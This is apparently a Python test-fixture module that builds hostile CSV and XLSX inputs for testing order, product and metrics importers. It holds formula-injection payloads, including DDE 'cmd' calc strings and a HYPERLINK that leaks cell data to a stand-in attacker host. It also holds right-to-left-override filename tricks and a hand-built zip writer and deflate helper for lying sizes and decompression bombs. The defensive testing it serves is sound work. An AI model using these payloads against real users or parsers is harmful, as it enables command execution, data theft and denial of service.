"""Building blocks of the hostile corpus (hostile_corpus.py): the importers' headers, rows, CSV bytes, and XLSX
workbooks assembled field by field (``zip_bytes``, ``xlsx``), because the hostile ones are exactly what a
spreadsheet library refuses to write: lying sizes, entity declarations, ``..`` member names, raw deflate streams
glued together (``deflate_repeated``: gigabytes described by a few megabytes).
"""

from __future__ import annotations

import struct
import zlib
from xml.sax.saxutils import escape

KINDS = ("orders", "products", "metrics")
GIB = 1 << 30

PRODUCT_HEADER = ("商品名称", "商家编码", "售价", "库存")
ORDER_HEADER = (
    "Order ID",
    "Buyer",
    "Seller",
    "Product Name",
    "Product Description",
    "Product Category",
    "Processed Date",
    "Order Status",
    "Sold Price",
    "Quantity",
    "Shipping Price",
    "Total",
    "Tracking Number",
)
METRICS_HEADER = ("时间", "在线人数", "成交金额", "成交订单数")
SHOW_START_LOCAL = "2026-01-05 20:00"  # the metrics tests' show starts at 12:00 UTC, 20:00 in Beijing

# Formula payloads (FORMATS.md §5 trigger characters, the OWASP examples and a full-width equals sign).
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "＝1+1",
    "=1+1\u0000tail",  # NUL inside a payload: refused as binary, see NUL_CASE
)
TEXT_PAYLOADS = tuple(p for p in PAYLOADS if "\u0000" not in p)
RTL_EMOJI = (
    "\u202egnp.exe",  # right-to-left override
    "שלום עולם",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦 家庭装",
    "🧨💥" * 20,
    "e\u0301\u0301\u0301 Zalgơ̸̡̢",
    "\u200b\u200d\ufeff zero width",
    "𠮷野家",
)


def csv_bytes(rows: list[tuple[str, ...]] | list[list[str]], *, encoding: str = "utf-8", sep: str = ",") -> bytes:
    """RFC 4180 text: every field quoted, embedded quotes doubled, CRLF between rows."""
    lines = [sep.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def product_rows(titles: tuple[str, ...]) -> list[tuple[str, ...]]:
    return [PRODUCT_HEADER, *((title, f"HX-{i}", "19.90", "5") for i, title in enumerate(titles, start=1))]


def order_rows(names: tuple[str, ...]) -> list[tuple[str, ...]]:
    rows = [ORDER_HEADER]
    for i, name in enumerate(names, start=1):
        order = (f"WN-9{i:04d}", name, "sunnyshop", name, "", "Home", "10/07/2025 19:05", "Completed")
        rows.append((*order, "$29.00", "1", "$4.99", "$33.99", ""))
    return rows


def metrics_rows(cells: tuple[str, ...]) -> list[tuple[str, ...]]:
    rows = [METRICS_HEADER]
    for minute, cell in enumerate(cells):
        rows.append((f"2026-01-05 20:{minute:02d}", cell, "10.00", "1"))
    return rows


def _dos_time() -> tuple[int, int]:
    return (12 << 11) | (0 << 5), ((2026 - 1980) << 9) | (1 << 5) | 5


def zip_bytes(members: list[tuple[str, bytes]], raw: dict[str, tuple[bytes, int, int]] | None = None) -> bytes:
    """A zip written field by field. ``members``: (name, content) deflated here; ``raw``: name → (raw deflate
    stream, crc32, declared uncompressed size) for members whose size or stream is the point of the test."""
    raw = raw or {}
    out, central = bytearray(), bytearray()
    mtime, mdate = _dos_time()
    entries: list[tuple[str, bytes, int, int]] = []
    for name, content in members:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        entries.append((name, compressor.compress(content) + compressor.flush(), zlib.crc32(content), len(content)))
    entries.extend((name, stream, crc, size) for name, (stream, crc, size) in raw.items())
    for name, stream, crc, size in entries:
        encoded = name.encode("utf-8")
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, mtime, mdate, crc, len(stream), size, len(encoded), 0
        )
        out += encoded + stream
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0x800,
            8,
            mtime,
            mdate,
            crc,
            len(stream),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "{extra}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{extra}</workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="{sheet}"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/>{extra}</Relationships>'
)
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dimension}<sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"
EMPTY_STRINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
)


def column_letter(index: int) -> str:
    """1 → A, 27 → AA."""
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def inline_row(number: int, cells: tuple[str, ...] | list[str]) -> str:
    parts = []
    for column, value in enumerate(cells, start=1):
        ref = f"{column_letter(column)}{number}"
        parts.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>')
    return f'<row r="{number}">' + "".join(parts) + "</row>"


def sheet_xml(rows: list[tuple[str, ...]] | list[list[str]], *, dimension: str = "", prolog: str = "") -> str:
    body = "".join(inline_row(number, cells) for number, cells in enumerate(rows, start=1))
    head = SHEET_HEAD.format(dimension=f'<dimension ref="{dimension}"/>' if dimension else "")
    if prolog:  # a DOCTYPE goes between the XML declaration and the root element
        declaration, rest = head.split("?>", 1)
        head = declaration + "?>" + prolog + rest
    return head + body + SHEET_TAIL


def xlsx(
    sheet: str,
    *,
    strings: str = EMPTY_STRINGS,
    workbook_extra: str = "",
    rels_extra: str = "",
    types_extra: str = "",
    sheet_target: str = "worksheets/sheet1.xml",
    members: tuple[tuple[str, bytes], ...] = (),
    raw: dict[str, tuple[bytes, int, int]] | None = None,
) -> bytes:
    parts = [
        ("[Content_Types].xml", CONTENT_TYPES.format(extra=types_extra).encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", WORKBOOK.format(extra=workbook_extra).encode()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(sheet=sheet_target, extra=rels_extra).encode()),
    ]
    raw = dict(raw or {})
    if "xl/worksheets/sheet1.xml" not in raw:
        parts.append(("xl/worksheets/sheet1.xml", sheet.encode()))
    if "xl/sharedStrings.xml" not in raw:
        parts.append(("xl/sharedStrings.xml", strings.encode()))
    return zip_bytes([*parts, *members], raw)


def deflate_repeated(head: bytes, unit: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, size) of ``head + unit * times + tail`` without building it: each piece is
    deflated on its own and ends byte-aligned (a full flush), so the unit's stream can be repeated as is."""

    def piece(data: bytes, final: bool) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    stream = piece(head, False) + piece(unit, False) * times + piece(tail, True)
    return stream, crc, len(head) + len(unit) * times + len(tail)
